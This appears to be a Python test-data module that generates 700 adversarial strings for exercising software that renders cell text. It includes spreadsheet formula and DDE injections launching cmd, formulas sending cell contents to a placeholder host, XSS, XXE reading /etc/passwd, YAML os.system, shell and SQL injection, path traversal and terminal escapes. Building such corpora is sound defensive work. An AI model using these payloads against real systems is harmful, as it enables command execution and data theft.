"""What may be typed into a cell to make a program that shows it do something: 700 strings, always the same."""

from __future__ import annotations

import itertools

MANY = 700
SURROGATE = "\ud800"
"""What UTF-16 can hold and no text should."""

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/"&A1,"click")', '=IMPORTXML("http://example.invalid/","//a")',
    '=WEBSERVICE("http://example.invalid/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
    "='file:///etc/passwd'#$passwd.A1", "=1+1;=2+2;x", "a;=1+1;b", "a\t=1+1\tb", '",=1+1,"', '";=1+1;"', "x\n=1+1", "x\r=1+1",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "'=1+1",
    "''=1+1", "%0A=1+1", "=\u200e1+1", "{=1+1}", "0+0=1", "_x003D_1+1", "_x000D_", "&#61;1+1",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "</title><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1)>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "x\" id=\"y", "<iframe src=javascript:alert(1)>", "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>", "<base href=//example.invalid>", "<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=x>",
    "<style>*{display:none}</style>", "</style><script>alert(1)</script>", "</td></tr></table><h1>x</h1>", "<bdi dir=rtl>x", "</bdi></bdi></td><td>", "<!-- x", "-->",
    "<![CDATA[x]]>", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&lt;script&gt;", "&#60;b&#62;", "&x;",
    "&nbsp", "{{7*7}}", "{% for x in y %}", "{0.__class__}", "{text}", "%s%n", "${7*7}", "<%= 7*7 %>", "<form><input type=submit>", "<textarea>",
    "<plaintext>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<math><mtext></form><form><mglyph><style></math><img>",
)  # fmt: skip
STYLE = (
    "expression(alert(1))", "url(javascript:alert(1))", "}*{color:red}", "@import 'x';", "style=\"position:fixed\"", "\\3c script\\3e", "/*", "*/",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://example.invalid\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;eA==\x07", "\x1bc",
    "\x1b[6n", "\x9b31m", "\x9d0;x\x9c", "\x90q\x9c", "\x08\x08\x08", "\x07", "\x00", "a\x00b", "\x7f", "\x0b", "\x0c", "\x0e", "\x85", "\u2028", "\u2029",
    "a\rb", "a\nb", "a\r\nb", "\r\nSet-Cookie: x=1", "line\nsijill: done", "a\tb",
)  # fmt: skip
TEXT = (
    "# heading", "**bold**", "[x](javascript:alert(1))", "![x](http://example.invalid/x)", "`code`", "| a | b |", "---", "- item", "> quote",
    "!!python/object/apply:os.system ['x']", "&anchor x", "*anchor", "{a: b}", "[a, b]", "a: b", "- - -", "? a", "%YAML 1.1", "'", '"', "\\", "\"\"\"",
    "\\u0041", "\\\"", "$(id)", "`id`", "; id", "| id", "&& id", "../../etc/passwd", "..\\..\\x", "C:\\x", "CON", "NUL", "a/b", "*?", "[x]", "~",
    "' OR 1=1 --", "\"; DROP TABLE x; --", "a,b", "a|b", "a;b", "other:x", "source:file", "⟦U+0007⟧",
)  # fmt: skip
DIRECTION = (
    "\u202egnp.exe", "\u202dabc", "\u202aabc\u202c", "\u2066abc", "\u2067abc\u2069", "abc\u2068", "\u200fabc", "\u200eabc", "\u061cabc", "a\u200db",
    "a\u200cb", "\u00adabc", "\u2060abc", "\ufeffabc", "\ufffeabc", "\uffffabc", "\U000e0041abc", "\U0001f468\u200d\U0001f469", "z\u0335\u0322\u035d" * 9,
    "a\u034fb", "\u180eabc", "ﷺ", "\ufff9a\ufffab\ufffb", "\ue000",
)  # fmt: skip
_AROUND = (
    "x{}",
    "{}x",
    " {}",
    "{} ",
    "1990{}",
    "تونس {}",
    "={}",
    "{}{}",
    '"{}"',
    "<b>{}</b>",
    "\u202e{}",
    "{}\x1b[1m",
    "A+ {}",
)


def strings() -> list[str]:
    """Each of these by itself first, then each with something around it."""
    plain = [*FORMULAS, *MARKUP, *STYLE, *TERMINAL, *TEXT, *DIRECTION]
    turns = itertools.product(range(len(_AROUND)), enumerate(plain))
    more = (_AROUND[(n + turn) % len(_AROUND)].replace("{}", text) for turn, (n, text) in turns)
    return list(itertools.islice(dict.fromkeys([*plain, *more]), MANY))


_HARMLESS = str.maketrans({"<": "‹", ">": "›", "&": "﹠", '"': "”", "'": "’"})


def harmless(text: str) -> str:
    """The same text with everything that HTML acts on put in other signs."""
    return text.translate(_HARMLESS)
